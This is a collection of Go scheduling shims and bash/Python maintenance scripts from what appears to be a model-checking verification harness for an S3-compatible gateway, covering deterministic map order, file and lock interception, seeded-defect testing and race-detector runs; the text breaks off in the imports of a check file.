// Package vmap makes Go's map iteration order an explorer-owned choice: the
// instrumenter rewrites `for k, v := range m` (m a map) in selected files
// into a loop over vmap.Keys(m).
package vmap

import (
	"fmt"
	"sort"

	"verif/sched"
)

// Current, when non-nil, decides the permutation of every Keys call.
var Current *sched.Chooser

// MaxPermute: maps up to this size are enumerated in every permutation.
var MaxPermute = 4

// Keys returns the keys of m: sorted (by their printed form) and then
// permuted by the current chooser (Lehmer code: one choice per position).
func Keys[M ~map[K]V, K comparable, V any](m M) []K {
	ks := make([]K, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	if len(ks) > 1 {
		sort.Slice(ks, func(i, j int) bool { return fmt.Sprint(ks[i]) < fmt.Sprint(ks[j]) })
	}
	c := Current
	if c == nil {
		return ks
	}
	if len(ks) > MaxPermute {
		// large maps (the static action tables): forward or reverse order only
		if c.Choose(2) == 1 {
			for i, j := 0, len(ks)-1; i < j; i, j = i+1, j-1 {
				ks[i], ks[j] = ks[j], ks[i]
			}
		}
		return ks
	}
	out := make([]K, 0, len(ks))
	for len(ks) > 0 {
		i := c.Choose(len(ks))
		out = append(out, ks[i])
		ks = append(ks[:i], ks[i+1:]...)
	}
	return out
}
