// Package vos forwards package os. Path-based primitives are preceded by a
// scheduling point; RemoveAll, MkdirAll, ReadFile, WriteFile and CreateTemp
// are re-implemented as the stdlib's own sequence of primitive steps so the
// explorer can cut inside them. Methods of *os.File are not intercepted
// (File must stay os.File): they act on inodes that are unpublished or
// immutable after publication (see DESIGN.md §2).
package vos

import (
	"errors"
	"io"
	"io/fs"
	"os"
	"sort"
	"strconv"
	"syscall"

	"verif/sched"
)

type (
	File         = os.File
	FileInfo     = os.FileInfo
	FileMode     = os.FileMode
	DirEntry     = os.DirEntry
	PathError    = os.PathError
	LinkError    = os.LinkError
	SyscallError = os.SyscallError
	Signal       = os.Signal
	Process      = os.Process
)

const (
	O_RDONLY = os.O_RDONLY
	O_WRONLY = os.O_WRONLY
	O_RDWR   = os.O_RDWR
	O_APPEND = os.O_APPEND
	O_CREATE = os.O_CREATE
	O_EXCL   = os.O_EXCL
	O_SYNC   = os.O_SYNC
	O_TRUNC  = os.O_TRUNC

	ModeDir     = os.ModeDir
	ModePerm    = os.ModePerm
	ModeSymlink = os.ModeSymlink

	PathSeparator     = os.PathSeparator
	PathListSeparator = os.PathListSeparator
	DevNull           = os.DevNull
)

var (
	ErrNotExist         = os.ErrNotExist
	ErrExist            = os.ErrExist
	ErrPermission       = os.ErrPermission
	ErrInvalid          = os.ErrInvalid
	ErrClosed           = os.ErrClosed
	ErrDeadlineExceeded = os.ErrDeadlineExceeded
	Stdin               = os.Stdin
	Stdout              = os.Stdout
	Stderr              = os.Stderr
	Args                = os.Args
	Interrupt           = os.Interrupt
	Kill                = os.Kill
)

// pure / process-level functions: forwarded without a point
var (
	IsExist         = os.IsExist
	IsNotExist      = os.IsNotExist
	IsPermission    = os.IsPermission
	IsTimeout       = os.IsTimeout
	IsPathSeparator = os.IsPathSeparator
	Geteuid         = os.Geteuid
	Getegid         = os.Getegid
	Getuid          = os.Getuid
	Getgid          = os.Getgid
	Getpid          = os.Getpid
	Getenv          = os.Getenv
	LookupEnv       = os.LookupEnv
	Getwd           = os.Getwd
	Chdir           = os.Chdir
	NewFile         = os.NewFile
	Exit            = os.Exit
	Hostname        = os.Hostname
	TempDir         = os.TempDir
	SameFile        = os.SameFile
	NewSyscallError = os.NewSyscallError
	Executable      = os.Executable
	DirFS           = os.DirFS // listing walks read through fs.FS; not a scheduling seam (see DESIGN.md)
)

var errKilled = sched.ErrKilled

func Stat(name string) (FileInfo, error) {
	if sched.Point("stat " + name) {
		return nil, errKilled
	}
	return os.Stat(name)
}

func Lstat(name string) (FileInfo, error) {
	if sched.Point("lstat " + name) {
		return nil, errKilled
	}
	return os.Lstat(name)
}

func Open(name string) (*File, error) {
	if sched.Point("open " + name) {
		return nil, errKilled
	}
	return os.Open(name)
}

func OpenFile(name string, flag int, perm FileMode) (*File, error) {
	if sched.Point("openfile " + name + " flags=" + strconv.Itoa(flag&^syscall.O_CLOEXEC)) {
		return nil, errKilled
	}
	return os.OpenFile(name, flag, perm)
}

func Create(name string) (*File, error) {
	return OpenFile(name, O_RDWR|O_CREATE|O_TRUNC, 0666)
}

func Mkdir(name string, perm FileMode) error {
	if sched.Point("mkdir " + name) {
		return errKilled
	}
	return os.Mkdir(name, perm)
}

func Remove(name string) error {
	if sched.Point("remove " + name) {
		return errKilled
	}
	return os.Remove(name)
}

func Rename(oldpath, newpath string) error {
	if sched.Point("rename " + oldpath + " -> " + newpath) {
		return errKilled
	}
	return os.Rename(oldpath, newpath)
}

func Link(oldname, newname string) error {
	if sched.Point("link " + oldname + " -> " + newname) {
		return errKilled
	}
	return os.Link(oldname, newname)
}

func Symlink(oldname, newname string) error {
	if sched.Point("symlink " + oldname + " -> " + newname) {
		return errKilled
	}
	return os.Symlink(oldname, newname)
}

func Readlink(name string) (string, error) {
	if sched.Point("readlink " + name) {
		return "", errKilled
	}
	return os.Readlink(name)
}

func Chown(name string, uid, gid int) error {
	if sched.Point("chown " + name) {
		return errKilled
	}
	return os.Chown(name, uid, gid)
}

func Lchown(name string, uid, gid int) error {
	if sched.Point("lchown " + name) {
		return errKilled
	}
	return os.Lchown(name, uid, gid)
}

func Chmod(name string, mode FileMode) error {
	if sched.Point("chmod " + name) {
		return errKilled
	}
	return os.Chmod(name, mode)
}

func Truncate(name string, size int64) error {
	if sched.Point("truncate " + name) {
		return errKilled
	}
	return os.Truncate(name, size)
}

func ReadDir(name string) ([]DirEntry, error) {
	if sched.Point("readdir " + name) {
		return nil, errKilled
	}
	ents, err := os.ReadDir(name)
	if sched.Active() && len(ents) > 1 {
		// entries named by random ids (upload ids, version ids, temp names) would otherwise be
		// visited in an order that differs from one replay to the next: order by the masked name
		sort.SliceStable(ents, func(i, j int) bool { return sched.Canon(ents[i].Name()) < sched.Canon(ents[j].Name()) })
	}
	return ents, err
}

// ReadFile = open + read-to-EOF (two steps).
func ReadFile(name string) ([]byte, error) {
	if !sched.Active() {
		return os.ReadFile(name)
	}
	if sched.Point("open " + name) {
		return nil, errKilled
	}
	f, err := os.Open(name)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	if sched.Point("readall " + name) {
		return nil, errKilled
	}
	return io.ReadAll(f)
}

// WriteFile = open(O_TRUNC) + write + close: the file is visibly empty between the first two steps.
func WriteFile(name string, data []byte, perm FileMode) error {
	if !sched.Active() {
		return os.WriteFile(name, data, perm)
	}
	if sched.Point("open-trunc " + name) {
		return errKilled
	}
	f, err := os.OpenFile(name, O_WRONLY|O_CREATE|O_TRUNC, perm)
	if err != nil {
		return err
	}
	if sched.Point("write " + name) {
		f.Close()
		return errKilled
	}
	_, err = f.Write(data)
	if err1 := f.Close(); err1 != nil && err == nil {
		err = err1
	}
	return err
}

// MkdirAll mirrors os.MkdirAll: stat fast path, parents first, mkdir, lstat on error.
func MkdirAll(path string, perm FileMode) error {
	if !sched.Active() {
		return os.MkdirAll(path, perm)
	}
	dir, err := Stat(path)
	if err == nil {
		if dir.IsDir() {
			return nil
		}
		return &PathError{Op: "mkdir", Path: path, Err: syscall.ENOTDIR}
	}
	if errors.Is(err, errKilled) {
		return err
	}
	i := len(path)
	for i > 0 && os.IsPathSeparator(path[i-1]) {
		i--
	}
	j := i
	for j > 0 && !os.IsPathSeparator(path[j-1]) {
		j--
	}
	if j > 1 {
		if err := MkdirAll(path[:j-1], perm); err != nil {
			return err
		}
	}
	err = Mkdir(path, perm)
	if err != nil {
		if errors.Is(err, errKilled) {
			return err
		}
		dir, err1 := Lstat(path)
		if err1 == nil && dir.IsDir() {
			return nil
		}
		return err
	}
	return nil
}

// RemoveAll mirrors os.RemoveAll (removeall_at.go): unlink; if that fails
// because it is a directory: one pass over its entries (recursively), then
// rmdir; entries created meanwhile make the final rmdir fail with ENOTEMPTY.
func RemoveAll(path string) error {
	if !sched.Active() {
		return os.RemoveAll(path)
	}
	if path == "" {
		return nil
	}
	err := Remove(path) // os.Remove = unlink, then rmdir on EISDIR/EPERM
	if err == nil || errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	if errors.Is(err, errKilled) {
		return err
	}
	ents, rerr := ReadDir(path)
	if rerr != nil {
		if errors.Is(rerr, fs.ErrNotExist) {
			return nil
		}
		if errors.Is(rerr, errKilled) {
			return rerr
		}
		return err
	}
	var first error
	for _, e := range ents {
		if err := RemoveAll(path + string(PathSeparator) + e.Name()); err != nil && first == nil {
			first = err
		}
	}
	err = Remove(path)
	if err == nil || errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	if first != nil {
		return first
	}
	return err
}

// CreateTemp mirrors os.CreateTemp with a deterministic per-execution suffix
// while an exploration is active.
func CreateTemp(dir, pattern string) (*File, error) {
	if !sched.Active() {
		return os.CreateTemp(dir, pattern)
	}
	if dir == "" {
		dir = os.TempDir()
	}
	prefix, suffix := pattern, ""
	for i := len(pattern) - 1; i >= 0; i-- {
		if pattern[i] == '*' {
			prefix, suffix = pattern[:i], pattern[i+1:]
			break
		}
	}
	for try := 0; try < 10000; try++ {
		name := dir + string(PathSeparator) + prefix + "vt" + strconv.Itoa(sched.NextTemp()) + suffix
		if sched.Point("createtemp " + dir + "/" + prefix) {
			return nil, errKilled
		}
		f, err := os.OpenFile(name, O_RDWR|O_CREATE|O_EXCL, 0600)
		if os.IsExist(err) {
			continue
		}
		return f, err
	}
	return nil, &PathError{Op: "createtemp", Path: dir, Err: os.ErrExist}
}
