// Package vunix forwards the parts of golang.org/x/sys/unix the gateway uses.
package vunix

import (
	"golang.org/x/sys/unix"

	"verif/sched"
)

const (
	O_RDWR            = unix.O_RDWR
	O_RDONLY          = unix.O_RDONLY
	O_WRONLY          = unix.O_WRONLY
	O_TMPFILE         = unix.O_TMPFILE
	O_CLOEXEC         = unix.O_CLOEXEC
	O_DIRECTORY       = unix.O_DIRECTORY
	O_CREAT           = unix.O_CREAT
	O_EXCL            = unix.O_EXCL
	AT_SYMLINK_FOLLOW = unix.AT_SYMLINK_FOLLOW
	AT_FDCWD          = unix.AT_FDCWD
	AT_EMPTY_PATH     = unix.AT_EMPTY_PATH
	AT_REMOVEDIR      = unix.AT_REMOVEDIR
)

var errKilled = sched.ErrKilled

func Open(path string, mode int, perm uint32) (int, error) {
	l := "open "
	if mode&unix.O_TMPFILE == unix.O_TMPFILE {
		l = "open(O_TMPFILE) "
	}
	if sched.Point(l + path) {
		return -1, errKilled
	}
	return unix.Open(path, mode, perm)
}

func Linkat(olddirfd int, oldpath string, newdirfd int, newpath string, flags int) error {
	if sched.Point("linkat -> " + newpath) {
		return errKilled
	}
	return unix.Linkat(olddirfd, oldpath, newdirfd, newpath, flags)
}

func Renameat2(olddirfd int, oldpath string, newdirfd int, newpath string, flags uint) error {
	if sched.Point("renameat2 " + oldpath + " -> " + newpath) {
		return errKilled
	}
	return unix.Renameat2(olddirfd, oldpath, newdirfd, newpath, flags)
}

func Unlinkat(dirfd int, path string, flags int) error {
	if sched.Point("unlinkat " + path) {
		return errKilled
	}
	return unix.Unlinkat(dirfd, path, flags)
}

func Close(fd int) error { return unix.Close(fd) }
