// Package vtime forwards package time. Now is real time plus a harness-owned
// offset (so "the cache TTL elapsed" is an explorer event, not a wait);
// Sleep is a yield point during an exploration.
package vtime

import (
	"sync/atomic"
	"time"

	"verif/sched"
)

type (
	Time       = time.Time
	Duration   = time.Duration
	Month      = time.Month
	Weekday    = time.Weekday
	Location   = time.Location
	Timer      = time.Timer
	Ticker     = time.Ticker
	ParseError = time.ParseError
)

const (
	Nanosecond  = time.Nanosecond
	Microsecond = time.Microsecond
	Millisecond = time.Millisecond
	Second      = time.Second
	Minute      = time.Minute
	Hour        = time.Hour

	RFC3339     = time.RFC3339
	RFC3339Nano = time.RFC3339Nano
	RFC1123     = time.RFC1123
	RFC1123Z    = time.RFC1123Z
	RFC822      = time.RFC822
	RFC850      = time.RFC850
	ANSIC       = time.ANSIC
	UnixDate    = time.UnixDate
	Kitchen     = time.Kitchen
	DateTime    = time.DateTime
	DateOnly    = time.DateOnly
	TimeOnly    = time.TimeOnly

	January = time.January
)

var (
	UTC   = time.UTC
	Local = time.Local

	Parse           = time.Parse
	ParseInLocation = time.ParseInLocation
	ParseDuration   = time.ParseDuration
	Date            = time.Date
	Unix            = time.Unix
	UnixMilli       = time.UnixMilli
	UnixMicro       = time.UnixMicro
	LoadLocation    = time.LoadLocation
	FixedZone       = time.FixedZone
	NewTimer        = time.NewTimer
	NewTicker       = time.NewTicker
	AfterFunc       = time.AfterFunc
	After           = time.After
	Tick            = time.Tick
)

var offset atomic.Int64

// Advance moves the virtual clock forward (harness only).
func Advance(d time.Duration) { offset.Add(int64(d)) }

// ResetClock puts the virtual clock back to real time (harness only).
func ResetClock() { offset.Store(0) }

func Now() Time { return time.Now().Add(time.Duration(offset.Load())) }

func Since(t Time) Duration { return Now().Sub(t) }
func Until(t Time) Duration { return t.Sub(Now()) }

func Sleep(d Duration) {
	if sched.Active() {
		sched.Yield("sleep")
		return
	}
	time.Sleep(d)
}
