// Package vxattr forwards github.com/pkg/xattr with scheduling points.
package vxattr

import (
	"os"

	"github.com/pkg/xattr"

	"verif/sched"
)

type Error = xattr.Error

const (
	ENOATTR         = xattr.ENOATTR
	XATTR_SUPPORTED = xattr.XATTR_SUPPORTED
)

var errKilled = sched.ErrKilled

func Get(path, name string) ([]byte, error) {
	if sched.Point("getxattr " + path + " " + name) {
		return nil, errKilled
	}
	return xattr.Get(path, name)
}

func LGet(path, name string) ([]byte, error) {
	if sched.Point("lgetxattr " + path + " " + name) {
		return nil, errKilled
	}
	return xattr.LGet(path, name)
}

func Set(path, name string, data []byte) error {
	if sched.Point("setxattr " + path + " " + name) {
		return errKilled
	}
	return xattr.Set(path, name, data)
}

func LSet(path, name string, data []byte) error {
	if sched.Point("lsetxattr " + path + " " + name) {
		return errKilled
	}
	return xattr.LSet(path, name, data)
}

func Remove(path, name string) error {
	if sched.Point("removexattr " + path + " " + name) {
		return errKilled
	}
	return xattr.Remove(path, name)
}

func LRemove(path, name string) error {
	if sched.Point("lremovexattr " + path + " " + name) {
		return errKilled
	}
	return xattr.LRemove(path, name)
}

func List(path string) ([]string, error) {
	if sched.Point("listxattr " + path) {
		return nil, errKilled
	}
	return xattr.List(path)
}

func LList(path string) ([]string, error) {
	if sched.Point("llistxattr " + path) {
		return nil, errKilled
	}
	return xattr.LList(path)
}

// fd-based calls: a point too (crash enumeration cuts between them); the
// label names the attribute, not the fd number.
func FGet(f *os.File, name string) ([]byte, error) {
	if sched.Point("fgetxattr " + name) {
		return nil, errKilled
	}
	return xattr.FGet(f, name)
}

func FSet(f *os.File, name string, data []byte) error {
	if sched.Point("fsetxattr " + name) {
		return errKilled
	}
	return xattr.FSet(f, name, data)
}

func FRemove(f *os.File, name string) error {
	if sched.Point("fremovexattr " + name) {
		return errKilled
	}
	return xattr.FRemove(f, name)
}

func FList(f *os.File) ([]string, error) {
	if sched.Point("flistxattr") {
		return nil, errKilled
	}
	return xattr.FList(f)
}
