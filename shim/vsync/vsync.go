// Package vsync forwards package sync. Mutex and RWMutex are real locks
// outside an exploration and logical locks (scheduling point + blocking in
// the cooperative scheduler) during one.
package vsync

import (
	"sync"

	"verif/sched"
)

type (
	WaitGroup = sync.WaitGroup
	Once      = sync.Once
	Pool      = sync.Pool
	Map       = sync.Map
	Cond      = sync.Cond
	Locker    = sync.Locker
)

var (
	NewCond  = sync.NewCond
	OnceFunc = sync.OnceFunc
)

type Mutex struct {
	real sync.Mutex
	l    sched.Lock
}

func (m *Mutex) Lock() {
	if sched.Active() {
		sched.Acquire(&m.l, false, "lock")
		return
	}
	m.real.Lock()
}

func (m *Mutex) Unlock() {
	if sched.Active() {
		sched.Release(&m.l, false)
		return
	}
	m.real.Unlock()
}

func (m *Mutex) TryLock() bool {
	if sched.Active() {
		if m.l.Writer || m.l.Readers > 0 {
			return false
		}
		m.l.Writer = true
		return true
	}
	return m.real.TryLock()
}

type RWMutex struct {
	real sync.RWMutex
	l    sched.Lock
}

func (m *RWMutex) Lock() {
	if sched.Active() {
		sched.Acquire(&m.l, false, "lock")
		return
	}
	m.real.Lock()
}

func (m *RWMutex) Unlock() {
	if sched.Active() {
		sched.Release(&m.l, false)
		return
	}
	m.real.Unlock()
}

func (m *RWMutex) RLock() {
	if sched.Active() {
		sched.Acquire(&m.l, true, "rlock")
		return
	}
	m.real.RLock()
}

func (m *RWMutex) RUnlock() {
	if sched.Active() {
		sched.Release(&m.l, true)
		return
	}
	m.real.RUnlock()
}
