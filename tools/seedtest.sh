#!/bin/bash
# Manual tool (never run by a check): apply a seeded change to /repo, confirm it builds and that the
# repository's own tests still pass, run the property's check(s), report, and undo the change.
# usage: tools/seedtest.sh <patch.diff> <prop> [tier ...]      (tiers default: quick; add thorough to try both)
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
patch=$(readlink -f "$1"); prop=$2; shift 2
tiers=${*:-quick}
cd /repo || exit 2
if [ -n "$(git status --porcelain --untracked-files=no)" ]; then echo "SEEDTEST: /repo is not clean"; exit 2; fi
if ! git apply --check "$patch" 2>/dev/null; then echo "SEEDTEST: patch does not apply"; exit 2; fi
git apply "$patch"
trap 'git -C /repo checkout -- . ; git -C /repo clean -fdq -- . >/dev/null 2>&1' EXIT
if ! go build ./... 2>/tmp/seedtest-build.log; then echo "SEEDTEST: build FAILS"; head -5 /tmp/seedtest-build.log; exit 3; fi
if [ -z "${SEED_SKIP_TESTS:-}" ]; then
  if ! go test -vet=off -count=1 $(go list ./... | grep -v /cmd/versitygw) >/tmp/seedtest-test.log 2>&1; then echo "SEEDTEST: repository tests FAIL with the change"; grep -a "^--- FAIL\|^FAIL" /tmp/seedtest-test.log | head; exit 4; fi
  echo "SEEDTEST: builds, repository tests pass"
fi
cd /verif
for t in $tiers; do
  start=$(date +%s)
  out=$(./run "$prop" "$t" 2>&1); rc=$?
  end=$(date +%s)
  echo "SEEDTEST: $prop $t exit=$rc ($((end-start))s)"
  echo "$out" | grep -a "^VIOLATION\|signature:" | head -8 | cut -c1-250
  echo "$out" | grep -a "^$prop $t" | tail -1
  if [ $rc -eq 1 ]; then echo "SEEDTEST: CAUGHT by $prop $t"; exit 0; fi
  if [ $rc -ne 0 ]; then echo "SEEDTEST: check exited $rc (tooling error?)"; echo "$out" | tail -5; fi
done
echo "SEEDTEST: MISSED"
exit 1
