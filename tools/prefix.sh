#!/bin/bash
# Manual tool: show that a check reports the defect a "fix:" commit repaired. The fix is un-applied in /repo's working tree
# (never committed), the property's check is run, and /repo is restored.
# usage: tools/prefix.sh <fix-commit> <prop> [tier]
set -u
sha=$1; prop=$2; tier=${3:-quick}
cd /repo || exit 2
if [ -n "$(git status --porcelain --untracked-files=no)" ]; then echo "PREFIX: /repo is not clean"; exit 2; fi
trap 'git -C /repo checkout -- . ; git -C /repo clean -fdq -- . >/dev/null 2>&1' EXIT
# several commits (a fix and its follow-up): "older,newer" - the newer one is un-applied first
for one in $(echo "$sha" | tr ',' '\n' | tac); do
  if ! git diff "$one^" "$one" | git apply -R 2>/dev/shm/prefix.err; then echo "PREFIX: cannot un-apply $one"; head -3 /dev/shm/prefix.err; exit 2; fi
done
cd /verif
out=$(./run "$prop" "$tier" 2>&1); rc=$?
echo "PREFIX: without $sha: $prop $tier exit=$rc"
echo "$out" | grep -a "^VIOLATION\|signature:" | head -${PREFIX_LINES:-8} | cut -c1-300
echo "$out" | grep -a "^$prop $tier" | tail -1
