#!/usr/bin/env python3
"""Regenerates MANIFEST.json from tools/manifest_src.json (claimed checks) and properties.jsonl (unclaimed -> not_applicable)."""
import json, sys
src = json.load(open('/verif/tools/manifest_src.json'))
props = [json.loads(l) for l in open('/verif/properties.jsonl')]
checks = []
claimed = set()
for c in src['checks']:
    pid = c['property_id']
    claimed.add(pid)
    checks.append({
        "property_id": pid,
        "quick_cmd": f"./run {pid} quick",
        "thorough_cmd": f"./run {pid} thorough",
        "evidence_file": f"/verif/evidence/{pid}.json",
        "replay_cmd_template": "cat {path}",
        "engine": c.get("engine", "vcheck"),
        "level_claimed": {"category": c.get("category", "model_checking"), "text": c["text"], "design_ref": c.get("design_ref", "DESIGN.md §3 " + pid)},
        "level_note": c["note"],
        "technique": c["technique"],
    })
na = [{"property_id": p['id'], "reason": src['not_applicable'].get(p['id'], "check not built yet in this round (planned in DESIGN.md §3); not claimed")}
      for p in props if p['id'] not in claimed]
m = {
    "version": 1,
    "setup_cmd": src["setup_cmd"],
    "hooks": src["hooks"],
    "engines": src["engines"],
    "checks": checks,
    "notes": src["notes"],
    "not_applicable": na,
}
json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
print("claimed", len(checks), "not_applicable", len(na))
