#!/usr/bin/env python3
"""Manual tool: regenerate the generated blocks of DESIGN.md (fixed / known findings, seeded changes)."""
import json, glob, re, subprocess, collections, os
kf = json.load(open('/verif/known_findings.json'))
doc = open('/verif/DESIGN.md').read()
def block(name, text):
    global doc
    doc = re.sub(r'(<!-- BEGIN:%s -->\n).*?(<!-- END:%s -->)' % (name, name), lambda m: m.group(1) + text + '\n' + m.group(2), doc, flags=re.S)
def esc(s): return str(s).replace('|', '\\|').replace('\n', ' ')
# fixed
rows = ['| property | commit | failing case (signature) | what was wrong |', '|---|---|---|---|']
for f in sorted(kf['fixed'], key=lambda x: x['property']):
    rows.append('| %s | %s | %s | %s |' % (f['property'], esc(f.get('commit', '')), esc(f.get('signature', ''))[:160], esc(f.get('what', ''))))
nfix = int(subprocess.check_output("git -C /repo log --oneline | grep -c ' fix:'", shell=True).decode())
block('fixed', '%d `fix:` commits in /repo, %d recorded entries (an entry can cover several signatures; some commits repair more than one entry).\n\n' % (nfix, len(kf['fixed'])) + '\n'.join(rows))
# known: group by (property, what)
g = collections.OrderedDict()
for k in kf['known']:
    g.setdefault((k['property'], k['what']), []).append(k['signature'])
rows = ['| property | finding | signatures listed | example signature |', '|---|---|---|---|']
for (p, what), sigs in sorted(g.items()):
    rows.append('| %s | %s | %d | %s |' % (p, esc(what), len(sigs), esc(sigs[0])[:140]))
block('known', '%d signatures in %d families.\n\n' % (len(kf['known']), len(g)) + '\n'.join(rows))
# seeded
rows = ['| id | property | change (mechanism) | trigger | caught by | tier | note |', '|---|---|---|---|---|---|---|']
for m in sorted(glob.glob('/verif/seeded/*/meta.json')):
    d = json.load(open(m))
    rows.append('| %s | %s | %s | %s | %s | %s | %s |' % (os.path.basename(os.path.dirname(m)), d.get('property'), esc(d.get('mechanism', ''))[:300], esc(d.get('trigger', ''))[:200], esc(d.get('caught_by', '')), esc(d.get('caught_tier', '')), esc(d.get('note', ''))[:200]))
block('seeded', '\n'.join(rows))
open('/verif/DESIGN.md', 'w').write(doc)
print('fixed', len(kf['fixed']), 'known', len(kf['known']), 'families', len(g))
