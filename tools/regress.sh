#!/bin/bash
# Manual tool: run every property's check at one tier (default quick), one after the other, and print one line per property.
# usage: tools/regress.sh [quick|thorough] [Cxx ...]
tier=${1:-quick}; shift
props=${*:-C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C17 C18 C19 C20}
cd /verif
for p in $props; do
  out=$(./run $p $tier 2>&1); rc=$?
  echo "$p $tier exit=$rc $(echo "$out" | grep -a "^$p $tier" | tail -1 | cut -d: -f2-)"
  if [ $rc -ne 0 ]; then echo "$out" | grep -a "^VIOLATION\|signature:" | head -12 | cut -c1-260; fi
done
