#!/bin/bash
# Manual auxiliary tool (not a registered check, not a deciding step): builds the gateway from /repo's
# working tree with the Go race detector and runs the request bodies of checks/racepass.go free-running
# (8 OS-scheduled goroutines, three storage configurations). Prints the distinct race reports, by the two
# top frames of each access, and exits 1 if there is any. usage: tools/racepass.sh [iterations]
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd /verif || exit 2
go build -race -o bin/racepass ./cmd/racepass || { echo "TOOLING-ERROR: race build failed"; exit 2; }
log=$(mktemp /dev/shm/verif-racepass-log.XXXXXX)
GORACE="halt_on_error=0 exitcode=0 history_size=5" bin/racepass -iter "${1:-120}" >"$log" 2>&1; rc=$?
rm -rf /dev/shm/verif-racepass-*/ 2>/dev/null
n=$(grep -c "WARNING: DATA RACE" "$log")
echo "racepass: exit=$rc reports=$n"
python3 - "$log" <<'PY'
import sys,re,collections
txt=open(sys.argv[1],errors='replace').read()
reps=txt.split("WARNING: DATA RACE")[1:]
sig=collections.Counter()
for r in reps:
    fr=[l.strip() for l in r.splitlines() if re.match(r"^\s+(github\.com|verif|net|sync|os|bytes|strings|runtime|encoding|io|bufio|crypto|hash|reflect|fmt|time|sort|context|errors|path|math|unicode|compress|mime|log|strconv|syscall|internal|golang\.org)[\w./*()\[\]-]*\(", l)]
    acc=[l.strip() for l in r.splitlines() if re.match(r"^(Read|Write|Previous read|Previous write|Atomic)", l.strip())]
    tops=[f.split("(")[0] for f in fr[:1]]
    # first frame after each access header
    lines=r.splitlines(); heads=[]
    for i,l in enumerate(lines):
        if re.match(r"^(Read at|Write at|Previous read at|Previous write at)", l.strip()) and i+1 < len(lines):
            heads.append(lines[i+1].strip().split("(")[0])
    sig[" <-> ".join(heads[:2])]+=1
for s,c in sig.most_common(): print("  %4d  %s"%(c,s))
PY
grep -q "bodies finished" "$log" || { echo "racepass: bodies did not finish"; tail -5 "$log"; }
cp "$log" /verif/tools/last-racepass.log; rm -f "$log"
[ "$n" -eq 0 ]
