#!/bin/bash
# Manual tool: run every seeded change against its check (tier from meta.json) and record the outcome.
cd /verif
out=seeded/RESULTS.txt
: > $out
for d in seeded/*-*/; do
  id=$(basename $d); prop=${id%-*}
  tier=$(python3 -c "import json;print(json.load(open('$d/meta.json')).get('caught_tier','quick'))")
  prop=$(python3 -c "import json;print(json.load(open('$d/meta.json')).get('caught_by','$prop'))")
  res=$(SEED_SKIP_TESTS=${SEED_SKIP_TESTS:-} tools/seedtest.sh $d/patch.diff $prop $tier 2>&1 | grep -a "SEEDTEST: \(CAUGHT\|MISSED\|build\|patch\|repository\|/repo\)" | tr '\n' ' ')
  echo "$id $tier: $res" | tee -a $out
done
