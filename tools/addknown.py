#!/usr/bin/env python3
"""Manual tool (never run by a check): add the violations currently in replay/<prop>-*.json to known_findings.json.
usage: addknown.py <prop> <sig-prefix-filter or ''> <what...>"""
import json, sys, glob
prop, flt, what = sys.argv[1], sys.argv[2], ' '.join(sys.argv[3:])
kf = json.load(open('/verif/known_findings.json'))
have = {(k['property'], k['signature']) for k in kf['known']}
n = 0
for f in sorted(glob.glob(f'/verif/replay/{prop}-*.json')):
    d = json.load(open(f))
    sig = d['signature']
    if flt and flt not in sig: continue
    if (prop, sig) in have: continue
    kf['known'].append({"property": prop, "signature": sig, "what": what})
    have.add((prop, sig)); n += 1
json.dump(kf, open('/verif/known_findings.json', 'w'), indent=1)
print("added", n)
