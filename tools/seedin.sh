#!/bin/bash
# Manual tool: take a sub-agent's seeded change from its scratch worktree, confirm it there (demo fails with the
# change, passes without; builds; repository tests pass), and copy it to seeded/<prop>-<n>/.
# usage: tools/seedin.sh <worktree> <prop> <n>
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
wt=$1; prop=$2; n=$3; dst=/verif/seeded/$prop-$n
cd "$wt" || exit 2
[ -f seed/patch.diff ] || { echo "SEEDIN: no seed/patch.diff"; exit 2; }
git checkout -q -- . ; git apply --check seed/patch.diff || { echo "SEEDIN: patch does not apply to the clean worktree"; exit 2; }
r0=""; for i in 1 2; do env -u AWS_CA_BUNDLE timeout 300 go run -tags seeddemo ./seed/demo >/dev/shm/seedin-out0.txt 2>&1; r0="$r0$?"; done
git apply seed/patch.diff
go build ./... || { echo "SEEDIN: build fails"; exit 3; }
if go test -vet=off -count=1 $(go list ./... | grep -v /cmd/versitygw) >/dev/shm/seedin-test.txt 2>&1; then tp=true; else tp=false; fi
r1=""; for i in 1 2; do env -u AWS_CA_BUNDLE timeout 300 go run -tags seeddemo ./seed/demo >/dev/shm/seedin-out1.txt 2>&1; r1="$r1$?"; done
echo "SEEDIN: $prop-$n demo unchanged exits=$r0 patched exits=$r1 tests_pass=$tp lines=$(grep -c '^[+-][^+-]' seed/patch.diff)"
tail -2 /dev/shm/seedin-out0.txt | cut -c1-300; tail -2 /dev/shm/seedin-out1.txt | cut -c1-400
if [ "$r0" != "00" ] || [ "$r1" != "11" ] || [ $tp != true ]; then echo "SEEDIN: NOT CONFIRMED"; grep -a "^--- FAIL\|^FAIL" /dev/shm/seedin-test.txt | head -5; exit 1; fi
mkdir -p "$dst"; cp seed/patch.diff "$dst/"; rm -rf "$dst/demo"; cp -r seed/demo "$dst/demo"
python3 - "$dst" seed/meta.json "$prop" <<'PY'
import json,sys
dst,src,prop=sys.argv[1:4]
m=json.load(open(src))
m["property"]=prop; m["round"]=6; m["applies_to_repo_commit"]="b2219f1"
m["author"]="sub-agent given only the property text and a scratch worktree"
m["demo_note"]="demo paths refer to seed/ of the author's worktree: copy this directory to seed/ of a checkout and run demo_cmd there"
m["confirmed"]={"demo_exit_unchanged":0,"demo_exit_with_patch":1,"builds":True,"repository_tests_pass":True,"runs_each":2}
json.dump(m,open(dst+"/meta.json","w"),indent=1)
PY
rm -f /dev/shm/seedin-*.txt
echo "SEEDIN: kept as $dst"
