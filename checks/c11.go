package checks

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"regexp"
	"sort"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
